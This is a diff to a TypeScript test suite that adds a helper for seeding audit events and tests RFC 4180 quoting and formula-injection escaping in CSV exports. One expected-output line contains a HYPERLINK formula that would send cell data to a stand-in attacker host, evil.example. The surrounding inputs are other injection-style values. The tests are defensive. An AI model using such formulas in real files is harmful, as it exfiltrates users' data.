@@ -105,21 +105,25 @@ describe("pageAuditEvents", () => {
 });
 
 describe("exportAuditCsv", () => {
+  /** One `admin.blocks.lift` row per reason, in order. */
+  const appendLifts = (db: TestDatabase["db"], reasons: readonly string[]) =>
+    appendAuditEvents(
+      db,
+      reasons.map((reason) => ({
+        ...APP_AUDIT,
+        actor: "adm_1",
+        reason,
+        kind: "admin.blocks.lift" as const,
+        result: "ok",
+        target: "blk_1",
+      })),
+    );
+
   test("the filtered rows as RFC 4180 CSV: quoted where a field holds a comma, quote or newline", async () => {
     const database = await createTestDatabase();
     try {
       const reasons = ['says "urgent", twice', "line one\nline two", "plain", "cr\r"];
-      await appendAuditEvents(
-        database.db,
-        reasons.map((reason) => ({
-          ...APP_AUDIT,
-          actor: "adm_1",
-          reason,
-          kind: "admin.blocks.lift",
-          result: "ok",
-          target: "blk_1",
-        })),
-      );
+      await appendLifts(database.db, reasons);
       await appendAuditEvents(database.db, [{ ...APP_AUDIT, kind: "partner.event", result: "ok" }]);
       const { csv, rows, truncated } = await exportAuditCsv(
         database.db,
@@ -180,17 +184,7 @@ describe("exportAuditCsv", () => {
         "\tcmd",
         "a = b, not a formula",
       ];
-      await appendAuditEvents(
-        database.db,
-        reasons.map((reason) => ({
-          ...APP_AUDIT,
-          actor: "adm_1",
-          reason,
-          kind: "admin.blocks.lift",
-          result: "ok",
-          target: "blk_1",
-        })),
-      );
+      await appendLifts(database.db, reasons);
       const { csv } = await exportAuditCsv(database.db, { kind: "admin.blocks.lift" }, ADMIN_AUDIT);
       expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",`);
       expect(csv).toContain(`,"'+1+2",`);
